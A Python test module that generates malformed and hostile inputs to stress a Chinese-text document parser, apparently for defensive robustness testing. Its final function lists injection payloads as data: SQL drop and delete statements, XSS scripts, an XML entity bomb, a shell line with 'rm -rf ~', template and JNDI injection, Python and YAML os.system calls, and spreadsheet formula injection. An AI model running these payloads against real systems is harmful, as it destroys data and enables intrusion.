"""Clean text that is built to break what reads it: lines without end, headings without bottom, numbers without sense, bait for patterns."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.nasty import PAGE, Nasty, text

if TYPE_CHECKING:
    from collections.abc import Iterator

TITLE, BODY = PAGE.splitlines()[1], PAGE.splitlines()[6]
MANY = 2_000


def odd_lines() -> Iterator[Nasty]:
    """Yield pages whose lines are too long, too many, empty, or cut in odd places."""
    endings = {"cr": "\r", "crlf": "\r\n", "cr-cr-lf": "\r\r\n", "lf-cr": "\n\r", "nel": "\x85", "ls": "\u2028", "ps": "\u2029"}
    endings |= {"vt": "\v", "ff": "\f", "fs": "\x1c", "lf-lf-lf": "\n\n\n"}
    for name, ending in endings.items():
        yield text(f"lines/{name}", PAGE.replace("\n", ending))
    yield text("lines/mixed-endings", "".join(line + ("\n", "\r", "\r\n", "\r\r\n")[i % 4] for i, line in enumerate(PAGE.split("\n"))))
    yield text("lines/crlf-cut-apart", PAGE.replace("\n", "\r\r\n\r") + "\r")
    yield text("lines/no-last-ending", PAGE.rstrip("\n"))
    for name, filler in {
        "lf": "\n",
        "cr": "\r",
        "crlf": "\r\n",
        "space": " ",
        "wide-space": "\u3000",
        "zwsp": "\u200b",
        "tab": "\t",
    }.items():
        yield text(f"lines/only-{name}", filler * MANY)
    yield text("lines/only-a-letter", "a")
    yield text("lines/only-punctuation", "。、,;:!?《》“”()〔〕【】" * 20)
    yield text("lines/one-long-line", PAGE.replace("\n", "") * 500)
    yield text("lines/one-long-word", "政" * 300_000)
    yield text("lines/one-long-number", "9" * 100_000)
    yield text("lines/one-long-space", PAGE + " " * 300_000 + PAGE)
    yield text("lines/one-character-lines", "\n".join(PAGE * 3))
    yield text("lines/empty-lines-between", PAGE.replace("\n", "\n" * MANY))
    yield text("lines/the-page-a-hundred-times", PAGE * 100)
    yield text("lines/one-line-ten-thousand-times", BODY[:20] + "\n" + "同一行文字\n" * 10_000)
    yield text("lines/zalgo", "".join(c + "\u0301\u0316\u0489" * 20 for c in PAGE))
    yield text("lines/right-to-left", PAGE.replace(",", "\u202e,\u202c").replace("。", "\u2067。"))
    yield text("lines/emoji", PAGE.replace("科技", "👨‍👩‍👧‍👦🏳️‍🌈"))
    yield text("lines/tags", PAGE.replace("2", "2\U000e0061\U000e007f\ufe0f"))
    yield text("lines/hangul-and-kana", "ᄀ" * 3000 + "ﾊﾞ" * 3000)
    yield text("lines/other-scripts", "བོད་སྐད ئۇيغۇر Ελληνικά עברית\n" * 50)


def deep_structure() -> Iterator[Nasty]:
    """Yield pages whose headings, brackets and lists go on and on."""
    head = f"{TITLE}\n"
    numerals = "一二三四五六七八九十"
    yield text("deep/headings-in-turn", head + "".join(f"{numerals[i % 10]}、标题{i}\n({numerals[i % 10]})小标题\n" for i in range(MANY)))
    yield text("deep/levels", head + "".join(".".join(["1"] * (i % 40 + 1)) + f" 标题{i}\n" for i in range(MANY)))
    styles = ("第一编 总则", "第一章 总则", "第一节 总则", "一、总则", "(一)总则", "1.总则", "(1)总则", "①总则", "A.总则", "a)总则")
    yield text("deep/every-style", head + "\n".join(styles * 200))
    yield text("deep/articles", head + "".join(f"第{i}条 为了加强管理,制定本办法。\n" for i in range(MANY)))
    yield text("deep/huge-numbers", head + "".join(f"{'9' * n}、标题\n第{'9' * n}条 内容。\n({'1' * n})内容\n" for n in range(1, 60)))
    yield text("deep/huge-chinese-numbers", head + "".join(f"第{'九百亿万千' * n}章 标题\n{'十' * n}、标题\n" for n in range(1, 40)))
    yield text("deep/zero-and-signs", head + "0、零\n-1、负\n〇、圈\n00000000001.前\n1.0.0.0.0.0\n+1)加\n")
    yield text("deep/roman-and-circled", head + "Ⅻ、\nⅰ)\n㊿\n⑳标题\n❿标题\n㈩标题\n" * 50)
    yield text("deep/open-book-marks", head + "《" * 10_000)
    yield text("deep/nested-book-marks", head + "《" * 3000 + "规定" + "》" * 3000)
    yield text("deep/empty-book-marks", head + "《》" * 5000)
    yield text("deep/closed-before-open", head + "》《" * 5000)
    yield text("deep/open-brackets", head + "(" * 10_000 + "牵头单位:省科技厅")
    yield text("deep/nested-brackets", head + "1.工作。" + "(责任单位:" * 2000 + "省科技厅" + ")" * 2000)
    yield text("deep/agencies", head + "一、工作\n1.做事。(责任单位:" + "、".join(f"省第{i}厅" for i in range(MANY)) + ")")
    yield text("deep/agency-labels", head + "一、工作\n1.做事。" + "(牵头单位:省科技厅;配合单位:省财政厅)" * 1000)
    yield text("deep/labels-without-names", head + "牵头单位:\n责任单位:;;;、、、\n(责任单位:)\n(:)\n" * 200)
    yield text("deep/citations", head + "一、工作\n根据" + "、".join(f"《关于第{i}号工作的意见》" for i in range(MANY)) + "执行。")
    yield text("deep/attachments", head + "".join(f"附件{i}:表\n" for i in range(MANY)))
    yield text("deep/titles", "".join(f"关于印发第{i}个工作要点的通知\n" for i in range(MANY)))
    yield text("deep/long-title", "关于" + "印发关于" * 5000 + "的通知\n" + PAGE)
    yield text("deep/recipients", head + "各市、县人民政府,各部门:\n" * 500)
    yield text("deep/signatures", PAGE + "辽宁省科学技术厅\n2020年3月6日\n" * 500)
    yield text("deep/metadata", "发布日期:2020-13-45\n来源:来源:来源:\n文号:文号\n" * 300 + PAGE)
    yield text("deep/navigation", "首页 > " * 5000 + "\n" + PAGE)
    yield text("deep/page-within-page", "".join(PAGE[: i * 20] for i in range(1, 60)))


def absurd_values() -> Iterator[Nasty]:
    """Yield pages whose dates, numbers and names are out of all bounds."""
    head = f"{TITLE}\n一、主要目标\n"
    dates = (
        "9999年99月99日",
        "0年0月0日",
        "2020年2月30日",
        "2021年2月29日",
        "99999999年1月1日",
        "二〇二〇年十三月三十二日",
        "-2020年-1月-1日",
    )
    for i, date in enumerate(dates):
        yield text(f"values/date-{i}", PAGE.replace("2020年3月6日", date) + f"发布日期:{date}\n自{date}起施行。\n")
    yield text("values/dates-written-oddly", PAGE + "发布日期:2020-3-6 25:61:61\n成文日期:2020/00/00\n时间:1e9\n日期:６月６日\n")
    for n in (16, 19, 20, 40, 310, 5000):
        yield text(f"values/digits-{n}", head + f"1.新增企业{'9' * n}家,投入{'9' * n}亿元,增长{'9' * n}%以上。\n")
    yield text("values/units-multiplied", head + f"1.投入{'万' * 200}元,达到9{'亿' * 200}元,新增1{'万亿' * 100}个。\n")
    yield text("values/decimals", head + f"1.增长1.2.3.4.5%,达到0.{'0' * 400}1亿元,降低.5个百分点,投入5.元。\n")
    yield text("values/ranges", head + "1.新增9-1家、1-2-3-4个、1~~2万元、-5—-3%、1至至2项,达到3/0,增长1/3。\n")
    yield text("values/separators", head + "1.投入1,2,3,4,,5元、1,000,00元、１２３４５６元、1 000 000元、1'000元。\n")
    yield text("values/exponents", head + "1.达到1e308亿元、1E999个、0x1F家、NaN%、inf元、-0个、+5项。\n")
    yield text("values/chinese-numbers", head + f"1.新增{'一' * 500}家,达到{'千百十' * 100}个,{'零' * 300}项,半{'亿' * 50}元。\n")
    yield text("values/other-digits", head + "1.新增٣٤٥家、१२३个、𝟏𝟐𝟑项、²³%、½亿元、㊿个、Ⅻ项。\n")
    yield text("values/targets", head + "".join(f"{i}.新增企业{i}家,增长{i}%以上,投入{i}亿元。\n" for i in range(1, MANY)))
    yield text("values/targets-on-one-line", head + "1." + "新增企业100家,增长10%以上," * MANY)
    yield text("values/document-numbers", PAGE + "".join(f"辽科发〔{'9' * n}〕{'8' * n}号\n" for n in range(1, 60)))
    yield text("values/years", PAGE + "到0000年,到9999年,到99999年,到2147483648年,到二〇九九九年新增100家企业。\n")
    yield text(
        "values/region-names",
        "".join(f"{name}人民政府\n" for name in ("吉林吉林", "省省市市县县", "北京市上海市", "朝阳区朝阳市", "市")) + PAGE,
    )
    yield text("values/no-chinese", "Lorem ipsum dolor sit amet, 100% of 5,000 units by 2025.\n" * 50)
    yield text("values/null-words", "NULL\nnull\nNone\nnan\nNaN\ninf\n-inf\ntrue\n\\N\nN/A\nundefined\n" + PAGE)


def pattern_bait() -> Iterator[Nasty]:
    """Yield what makes careless regular expressions go round in circles, and what acts as a pattern itself."""
    baits = {
        "a": "a" * 20_000 + "!",
        "spaces": " " * 20_000 + "x",
        "digits": "1" * 20_000 + "x",
        "dots": "1." * 10_000,
        "commas": "1," * 10_000,
        "bet": "bet365" * 5_000,
        "almost-bet": "365be" * 5_000,
        "casino": "澳门" * 10_000,
        "urls": "http://" * 5_000,
        "at": "a@" * 10_000,
        "han": "政" * 20_000 + "网",
        "welcome": "欢迎来到" * 5_000,
        "copyright": "版权所有" * 5_000,
        "list-commas": "省科技厅、" * 5_000,
        "responsible": "责任单位" * 5_000,
        "year": "2020年" * 5_000,
        "date": "2020年3月6日" * 5_000,
        "number-words": "一十百千万亿" * 4_000,
        "quotes": "“" * 10_000 + "”" * 10_000,
        "kinds": "关于印发的通知" * 4_000,
        "zero-to-one": "从01" * 7_000,
        "breadcrumb": "> " * 10_000,
        "stars": "*" * 20_000,
        "combining": "e" + "\u0301" * 20_000,
        "joiner": "\u200d" * 20_000 + "x",
    }
    for name, bait in baits.items():
        yield text(f"bait/{name}", f"{TITLE}\n一、{bait}\n1.{bait}。\n{bait}:\n")
    yield text("bait/metacharacters", PAGE + ".*+?()[]{}|\\^$ (?<=x) (?R) \\1 \\p{Han} [[:alpha:]] (a+)+$ $1 \\g<0> ${name}\n" * 20)


def foreign_languages() -> Iterator[Nasty]:
    """Yield text that is code to whoever runs it: SQL, HTML, shells, templates, formulas, terminals, Markdown."""
    snippets = {
        "sql-drop": "'; DROP TABLE lineage.lines; --\n\"; DELETE FROM main.documents; --\n'||(SELECT 1)||'",
        "sql-copy": "COPY (SELECT 1) TO '/tmp/stolen';\nATTACH '/etc/passwd';\n$$ $1 ? :name %(name)s",
        "html-script": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
        "html-breaks-out": '--></script></style></textarea></pre>"><iframe src="javascript:alert(1)">]]>&lt;&#x3c;',
        "html-page": "<!DOCTYPE html><html><head><meta charset=gbk><title>标题</title></head><body><p>正文</p></body></html>",
        "xml-bomb": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
        "shell": "$(touch /tmp/owned) `touch /tmp/owned`; rm -rf ~ & | > /tmp/owned",
        "templates": "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://x/a} #{1} <%= 1 %> %s %n %d {0} {x!r} {",
        "python": "__import__('os').system('id')\n!!python/object/apply:os.system ['id']",
        "json": '{"__proto__": {"x": 1}, "a": [[[[[[]]]]]], "\\ud800": "\\u0000"}',
        "formulas": "=1+1\n+1\n-1\n@SUM(A1)\n\t=1\n=cmd|'/c calc'!A1\n=HYPERLINK(\"http://x\")\n＝1\n",
        "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31m红\x1b[0m\x9b31m\x1bP\x1b\\\x08\x08\x7f\x0e\x1b]8;;http://x\x1b\\点\x1b]8;;\x1b\\",
        "markdown": "# 标题\n| a | b |\n|---|---|\n```\n[x](javascript:alert(1)) ![](http://x/p.png) <b>\n---\n1. x\n> y",
        "csv": 'a,"b\n"",c"\n;\t,"""\n"unclosed',
        "logs": "2026-01-01 ERROR Traceback (most recent call last):\n  File \"x\", line 1\nKeyError: 'x'",
    }
    for name, snippet in snippets.items():
        yield text(f"code/{name}", f"{PAGE}{snippet}\n", ("loaded", "not_text"))
        title = "".join(snippet.splitlines())[:60]
        yield text(f"code/{name}-in-title", PAGE.replace("科技工作要点", title).replace("省科技厅", title), ("loaded", "not_text"))
